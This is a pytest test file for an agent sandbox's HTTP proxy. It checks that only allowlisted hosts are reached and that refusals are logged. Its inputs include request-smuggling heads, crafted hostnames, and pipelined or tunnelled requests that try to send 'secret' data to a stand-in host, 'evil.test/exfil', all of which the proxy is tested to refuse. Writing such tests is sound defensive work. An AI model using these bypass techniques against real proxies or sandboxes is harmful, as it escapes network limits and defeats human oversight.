"""The sandbox's proxy, on real sockets: an allowed host is reached, anything else refused and logged."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import anyio
import pytest

from agentswf.sandbox import proxy as proxy_module
from agentswf.sandbox.proxy import Allowlist, Endpoint, Proxy, parse_head, public_addresses, serving

pytestmark = pytest.mark.anyio
STAND_IN = "api.stand-in.test"  # resolved to a loopback server by the stand-in resolver below


class Upstream:
    """A loopback HTTP server that records each request's head and answers `hello`."""

    def __init__(self) -> None:
        self.heads: list[bytes] = []

    async def handle(self, stream: Any) -> None:
        async with stream:
            data = b""
            while b"\r\n\r\n" not in data:
                data += await stream.receive()
            self.heads.append(data.split(b"\r\n\r\n")[0])
            await stream.send(b"HTTP/1.0 200 OK\r\nContent-Length: 5\r\n\r\nhello")


async def ask(socket: Path, request: bytes, then: bytes = b"") -> bytes:
    async with await anyio.connect_unix(socket) as stream:
        await stream.send(request)
        reply = b""
        with anyio.fail_after(5):
            while b"\r\n\r\n" not in reply:
                reply += await stream.receive()
            if then:
                await stream.send(then)
            try:
                while True:
                    reply += await stream.receive()
            except (anyio.EndOfStream, anyio.BrokenResourceError):
                pass
        return reply


@pytest.fixture
def stand_in(monkeypatch):
    async def resolve(host: str, port: int) -> list[str]:
        return ["127.0.0.1"] if host == STAND_IN else await public_addresses(host, port)

    monkeypatch.setattr(proxy_module, "resolve_network", resolve)


async def test_an_allowed_host_and_the_model_endpoint_are_reached_and_the_rest_refused_and_logged(tmp_path, stand_in):
    upstream, model = Upstream(), Upstream()
    logged: list[tuple[str, dict]] = []
    async with await anyio.create_tcp_listener(local_host="127.0.0.1") as server, await anyio.create_tcp_listener(
        local_host="127.0.0.1"
    ) as model_server, await anyio.create_tcp_listener(local_host="127.0.0.1") as private, anyio.create_task_group() as group:
        port = server.extra(anyio.abc.SocketAttribute.local_port)
        model_port = model_server.extra(anyio.abc.SocketAttribute.local_port)
        private_port = private.extra(anyio.abc.SocketAttribute.local_port)
        group.start_soon(server.serve, upstream.handle)
        group.start_soon(model_server.serve, model.handle)
        allow = Allowlist(frozenset({Endpoint("127.0.0.1", model_port)}), (f"{STAND_IN}:{port}", "*.stand-in.test"))
        proxy = Proxy(allow, lambda message, **fields: logged.append((message, fields)), sandbox="box", agent="a")
        socket = tmp_path / "n.sock"
        async with serving(socket, proxy):
            tunnel = await ask(socket, f"CONNECT {STAND_IN}:{port} HTTP/1.1\r\n\r\n".encode(), b"GET /t HTTP/1.1\r\n\r\n")
            assert tunnel.startswith(b"HTTP/1.1 200") and tunnel.endswith(b"hello")
            plain = await ask(socket, f"GET http://{STAND_IN}:{port}/p?q=1 HTTP/1.1\r\nHost: {STAND_IN}:{port}\r\n\r\n".encode())
            assert plain.endswith(b"hello")
            assert upstream.heads == [b"GET /t HTTP/1.1", f"GET /p?q=1 HTTP/1.1\r\nHost: {STAND_IN}:{port}\r\nConnection: close".encode()]
            to_model = await ask(socket, f"CONNECT 127.0.0.1:{model_port} HTTP/1.1\r\n\r\n".encode(), b"POST /v1 HTTP/1.1\r\n\r\n")
            assert to_model.endswith(b"hello") and model.heads == [b"POST /v1 HTTP/1.1"]
            for target in ("evil.test:443", f"127.0.0.1:{private_port}", f"localhost:{private_port}", "stand-in.test:443"):
                refused = await ask(socket, f"CONNECT {target} HTTP/1.1\r\n\r\n".encode())
                assert refused.startswith(b"HTTP/1.1 403") and b"not on the sandbox's network allowlist" in refused, target
            bad = await ask(socket, b"hello there\r\n\r\n")
            assert bad.startswith(b"HTTP/1.1 400")
        assert not socket.exists()
        group.cancel_scope.cancel()
    assert [fields["target"] for _, fields in logged] == [
        "evil.test:443", f"127.0.0.1:{private_port}", f"localhost:{private_port}", "stand-in.test:443"
    ]  # fmt: skip
    assert all(fields["sandbox"] == "box" and fields["agent"] == "a" for _, fields in logged)


async def test_an_allowed_domain_that_resolves_to_the_hosts_loopback_is_refused(tmp_path):
    logged: list[str] = []
    proxy = Proxy(Allowlist(frozenset(), ("localhost",)), lambda message, **fields: logged.append(message), sandbox="b", agent="a")
    socket = tmp_path / "n.sock"
    async with serving(socket, proxy):
        reply = await ask(socket, b"CONNECT localhost:443 HTTP/1.1\r\n\r\n")
    assert reply.startswith(b"HTTP/1.1 502") and b"no public address" in reply
    assert await public_addresses("localhost", 80) == []
    assert logged and "no public address" in logged[0]


def test_request_heads_are_read_strictly():
    request = parse_head(b"CONNECT [::1]:8080 HTTP/1.1\r\n\r\n", b"")
    assert not isinstance(request, str) and (request.host, request.port, request.tunnel) == ("::1", 8080, True)
    assert isinstance(parse_head(b"CONNECT host HTTP/1.1\r\n\r\n", b""), str)
    assert isinstance(parse_head(b"CONNECT host:99999 HTTP/1.1\r\n\r\n", b""), str)
    assert isinstance(parse_head(b"GET /relative HTTP/1.1\r\n\r\n", b""), str)
    assert isinstance(parse_head(b"GET https://x/ HTTP/1.1\r\n\r\n", b""), str)
    plain = parse_head(b"POST http://user@h.test/a HTTP/1.1\r\nA: b\r\nContent-Length: 6\r\n\r\n", b"bod")
    assert not isinstance(plain, str) and (plain.host, plain.port, plain.more, plain.pipelined) == ("h.test", 80, 3, False)
    assert plain.forward == b"POST /a HTTP/1.1\r\nHost: h.test\r\nA: b\r\nContent-Length: 6\r\nConnection: close\r\n\r\nbod"
    kept_alive = parse_head(b"GET http://h.test?q HTTP/1.0\r\nConnection: keep-alive, Upgrade\r\nUpgrade: h2c\r\n\r\n", b"")
    assert not isinstance(kept_alive, str) and kept_alive.forward == b"GET /?q HTTP/1.0\r\nHost: h.test\r\nConnection: close\r\n\r\n"
    pipelined = parse_head(b"GET http://h.test/ HTTP/1.1\r\nContent-Length: 1\r\n\r\n", b"xGET http://evil.test/ HTTP/1.1\r\n\r\n")
    assert not isinstance(pipelined, str) and pipelined.pipelined and pipelined.forward.endswith(b"\r\n\r\nx")
    misnamed = parse_head(b"GET http://h.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n", b"")
    assert not isinstance(misnamed, str) and misnamed.other_host == "evil.test"


@pytest.mark.parametrize(
    "head",
    [
        b"GET http://h.test/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n",  # a body framed by chunks: refused
        b"GET http://h.test/ HTTP/1.1\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n",
        b"GET http://h.test/ HTTP/1.1\r\nContent-Length: 1\r\nContent-Length: 9\r\n\r\n",
        b"GET http://h.test/ HTTP/1.1\r\nContent-Length: 1, 1\r\n\r\n",
        b"GET http://h.test/ HTTP/1.1\r\nContent-Length: +1\r\n\r\n",
        b"GET http://h.test/ HTTP/1.1\r\nContent-Length : 1\r\n\r\n",  # a space before the colon
        b"GET http://h.test/ HTTP/1.1\r\nA: b\r\n Host: evil.test\r\n\r\n",  # a folded line
        b"GET http://h.test/ HTTP/1.1\r\nA: b\nHost: evil.test\r\n\r\n",  # a bare line feed
        b"GET http://h.test/ HTTP/1.1\nHost: evil.test\r\n\r\n",
        b"GET http://h.test/ HTTP/1.1\r\nHost: h.test\r\nHost: evil.test\r\n\r\n",
        b"GET http://h.test/ HTTP/1.1\r\nHost: h.test\x1b[2J\r\n\r\n",
        b"GET http://h.test/ HTTP/1.1\r\nnoColon\r\n\r\n",
        b"G\x00T http://h.test/ HTTP/1.1\r\n\r\n",
    ],
)
def test_a_plain_request_whose_framing_or_host_could_be_read_two_ways_is_refused(head):
    """What the host would read in these (where the body ends, which host is meant) may not be
    what the proxy read: a request smuggled past its check."""
    assert isinstance(parse_head(head, b""), str)


async def test_refusals_are_logged_up_to_a_cap_and_the_last_says_so(tmp_path, monkeypatch):
    monkeypatch.setattr(proxy_module, "MAX_LOGGED_REFUSALS", 3)
    logged: list[str] = []
    proxy = Proxy(Allowlist(frozenset(), ()), lambda message, **fields: logged.append(message), sandbox="b", agent="a")
    socket = tmp_path / "n.sock"
    async with serving(socket, proxy):
        for n in range(6):
            assert (await ask(socket, f"CONNECT h{n}.test:443 HTTP/1.1\r\n\r\n".encode())).startswith(b"HTTP/1.1 403")
    assert len(logged) == 3 and "later ones aren't logged" in logged[-1]


async def test_an_agent_holds_at_most_its_share_of_connections_and_the_rest_wait_unaccepted(tmp_path, monkeypatch):
    monkeypatch.setattr(proxy_module, "MAX_CONNECTIONS", 2)
    proxy = Proxy(Allowlist(frozenset(), ()), lambda message, **fields: None, sandbox="b", agent="a")
    socket = tmp_path / "n.sock"
    async with serving(socket, proxy):
        idle = [await anyio.connect_unix(socket) for _ in range(2)]  # they send nothing: each holds a slot
        waiting = await anyio.connect_unix(socket)
        await waiting.send(b"CONNECT h.test:443 HTTP/1.1\r\n\r\n")
        with anyio.move_on_after(0.3) as early:
            await waiting.receive()
        assert early.cancelled_caught  # not accepted while both slots are held
        await idle[0].aclose()
        with anyio.fail_after(5):
            assert (await waiting.receive()).startswith(b"HTTP/1.1 403")
        for stream in (idle[1], waiting):
            await stream.aclose()


async def test_a_crafted_name_that_merely_ends_like_an_allowed_one_is_refused_and_the_proxy_goes_on(tmp_path, stand_in):
    logged: list[str] = []
    proxy = Proxy(Allowlist(frozenset(), ("*.stand-in.test",)), lambda message, **fields: logged.append(message), sandbox="b", agent="a")
    socket = tmp_path / "n.sock"
    async with serving(socket, proxy):
        for target in ("evil.com/.stand-in.test:80", "a..stand-in.test:80"):
            reply = await ask(socket, f"CONNECT {target} HTTP/1.1\r\n\r\n".encode())
            assert reply.startswith(b"HTTP/1.1 403"), target
        for target in ("ünïcode.stand-in.test:80", "evil.com\x00.stand-in.test:80"):
            reply = await ask(socket, f"CONNECT {target} HTTP/1.1\r\n\r\n".encode())
            assert reply.startswith(b"HTTP/1.1 400")  # not printable ASCII
    assert len(logged) == 2


async def test_a_socket_left_by_an_earlier_attempt_is_replaced(tmp_path):
    socket = tmp_path / "n.sock"
    socket.write_text("stale")
    proxy = Proxy(Allowlist(frozenset(), ()), lambda message, **fields: None, sandbox="b", agent="a")
    async with serving(socket, proxy):
        assert (await ask(socket, b"CONNECT h.test:1 HTTP/1.1\r\n\r\n")).startswith(b"HTTP/1.1 403")
    assert not socket.exists()


class KeepAlive:
    """A loopback HTTP/1.1 server of the kind a shared front end is: it answers every request a
    connection carries, pipelined or one after another, whatever its Host or Connection header
    says, and records each one's head. A connection ends only when the proxy ends it."""

    def __init__(self) -> None:
        self.heads: list[bytes] = []
        self.ended = anyio.Event()

    async def handle(self, stream: Any) -> None:
        async with stream:
            data = b""
            try:
                while True:
                    while b"\r\n\r\n" not in data:
                        data += await stream.receive()
                    head, _, data = data.partition(b"\r\n\r\n")
                    self.heads.append(head)
                    length = [int(line.split(b":")[1]) for line in head.split(b"\r\n") if line.lower().startswith(b"content-length:")]
                    while len(data) < sum(length):
                        data += await stream.receive()
                    data = data[sum(length) :]
                    await stream.send(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello")
            except (anyio.EndOfStream, anyio.BrokenResourceError):
                pass
            finally:
                self.ended.set()


async def converse(socket: Path, *writes: bytes) -> bytes:
    """Each of `writes` on one connection, the next once an answer (`hello`) came for the one before;
    then its end of stream, and what came back till the proxy closed."""
    async with await anyio.connect_unix(socket) as stream:
        reply = b""
        with anyio.fail_after(5):
            for n, data in enumerate(writes):
                while reply.count(b"hello") < n:
                    reply += await stream.receive()
                try:
                    await stream.send(data)
                except anyio.BrokenResourceError:
                    break
            try:
                await stream.send_eof()
                while True:
                    reply += await stream.receive()
            except (anyio.EndOfStream, anyio.BrokenResourceError):
                pass
        return reply


@pytest.fixture
async def allowed(tmp_path, stand_in):
    """A keep-alive server behind STAND_IN (on the allowlist) and the proxy's socket: (server, port, socket, log)."""
    server, logged = KeepAlive(), []
    async with await anyio.create_tcp_listener(local_host="127.0.0.1") as listener, anyio.create_task_group() as group:
        group.start_soon(listener.serve, server.handle)
        proxy = Proxy(Allowlist(frozenset(), (STAND_IN,)), lambda message, **fields: logged.append(fields), sandbox="b", agent="a")
        async with serving(tmp_path / "n.sock", proxy):
            yield server, listener.extra(anyio.abc.SocketAttribute.local_port), tmp_path / "n.sock", logged
        group.cancel_scope.cancel()


async def test_a_request_pipelined_after_an_allowed_one_never_reaches_the_allowed_hosts_address(allowed):
    """The attack of issue 28: the allowed host's address is a front end serving other sites too."""
    server, port, socket, _ = allowed
    first = f"GET http://{STAND_IN}:{port}/ HTTP/1.1\r\nHost: {STAND_IN}:{port}\r\n\r\n".encode()
    exfil = b"GET http://evil.test/exfil?data=secret HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    for pipelined in (first + exfil, first + b"GET /exfil?data=secret HTTP/1.1\r\nHost: evil.test\r\n\r\n"):
        reply = await converse(socket, pipelined)
        assert reply.startswith(b"HTTP/1.1 400") and b"one request per connection" in reply
    body = f"POST http://{STAND_IN}:{port}/up HTTP/1.1\r\nHost: {STAND_IN}:{port}\r\nContent-Length: 5\r\n\r\nhello".encode()
    reply = await converse(socket, body + exfil)  # after a body, by its length
    assert reply.startswith(b"HTTP/1.1 400")
    assert server.heads == [] and b"hello" not in reply


async def test_a_request_whose_host_header_names_another_host_is_refused_and_logged(allowed):
    server, port, socket, logged = allowed
    for host in ("evil.test", f"evil.test:{port}", f"{STAND_IN}:{port + 1}", ""):
        reply = await converse(socket, f"GET http://{STAND_IN}:{port}/exfil HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
        assert reply.startswith(b"HTTP/1.1 403") and b"Host header" in reply and b"hello" not in reply, host
    twice = await converse(socket, f"GET http://{STAND_IN}:{port}/ HTTP/1.1\r\nHost: {STAND_IN}\r\nHost: evil.test\r\n\r\n".encode())
    assert twice.startswith(b"HTTP/1.1 400")
    assert server.heads == []
    assert [fields["target"] for fields in logged] == [f"{STAND_IN}:{port}"] * 4 and "Host header" in logged[0]["refused"]
    same = await converse(socket, f"GET http://{STAND_IN}:{port}/ok HTTP/1.0\r\nhost: {STAND_IN.upper()}.:{port}\r\n\r\n".encode())
    assert same.endswith(b"hello")  # the same host, however it is spelt
    with anyio.fail_after(5):
        await server.ended.wait()
    assert server.heads == [f"GET /ok HTTP/1.0\r\nHost: {STAND_IN}:{port}\r\nConnection: close".encode()]


async def test_a_kept_alive_connection_carries_no_second_request(allowed):
    """After its answer came, a second request on the same connection (for another host, or the
    same) ends the connection: it would reach the first one's address, unchecked."""
    server, port, socket, _ = allowed
    first = f"GET http://{STAND_IN}:{port}/one HTTP/1.1\r\nHost: {STAND_IN}:{port}\r\nConnection: keep-alive\r\n\r\n".encode()
    for second in (b"GET http://evil.test/exfil HTTP/1.1\r\nHost: evil.test\r\n\r\n", first):
        reply = await converse(socket, first, second)
        assert reply.startswith(b"HTTP/1.1 200") and reply.count(b"hello") == 1
    with anyio.fail_after(5):
        await server.ended.wait()
    assert server.heads == [f"GET /one HTTP/1.1\r\nHost: {STAND_IN}:{port}\r\nConnection: close".encode()] * 2


async def test_a_tunnel_to_a_network_host_goes_to_port_443_or_to_the_port_its_entry_names(allowed):
    """A tunnel is relayed unread: to a port serving plain HTTP (80, or a front end's other ports)
    it would carry requests for any site behind the address, pipelined, with no check of their Host."""
    server, port, socket, logged = allowed  # STAND_IN named without a port
    exfil = b"GET /exfil?data=secret HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    for target in (f"{STAND_IN}:80", f"{STAND_IN}:{port}", f"{STAND_IN.upper()}.:{port}"):
        reply = await ask(socket, f"CONNECT {target} HTTP/1.1\r\n\r\n".encode() + exfil)
        assert reply.startswith(b"HTTP/1.1 403") and b"go to 443 or" in reply and b"hello" not in reply, target
    assert server.heads == []
    assert [fields["target"] for fields in logged] == [f"{STAND_IN}:80", f"{STAND_IN}:{port}", f"{STAND_IN}.:{port}"]
    assert all("no tunnel may go to" in fields["refused"] for fields in logged)
    https = await ask(socket, f"CONNECT {STAND_IN}:443 HTTP/1.1\r\n\r\n".encode())  # allowed: nothing serves it here
    assert https.startswith((b"HTTP/1.1 200", b"HTTP/1.1 502")), https
    assert all("no tunnel" not in fields["refused"] and "allowlist" not in fields["refused"] for fields in logged[3:])


async def test_an_entry_that_names_a_port_lets_tunnels_go_to_that_port_only(tmp_path, stand_in):
    server, logged = Upstream(), []
    async with await anyio.create_tcp_listener(local_host="127.0.0.1") as listener, anyio.create_task_group() as group:
        group.start_soon(listener.serve, server.handle)
        port = listener.extra(anyio.abc.SocketAttribute.local_port)
        allow = Allowlist(frozenset(), (f"{STAND_IN}:{port}",))
        proxy = Proxy(allow, lambda message, **fields: logged.append(fields["target"]), sandbox="b", agent="a")
        socket = tmp_path / "n.sock"
        async with serving(socket, proxy):
            reached = await ask(socket, f"CONNECT {STAND_IN}:{port} HTTP/1.1\r\n\r\n".encode(), b"GET /t HTTP/1.1\r\n\r\n")
            assert reached.startswith(b"HTTP/1.1 200") and reached.endswith(b"hello")
            for other in (80, 443):
                refused = await ask(socket, f"CONNECT {STAND_IN}:{other} HTTP/1.1\r\n\r\n".encode())
                assert refused.startswith(b"HTTP/1.1 403"), other
        group.cancel_scope.cancel()
    assert server.heads == [b"GET /t HTTP/1.1"] and logged == [f"{STAND_IN}:80", f"{STAND_IN}:443"]
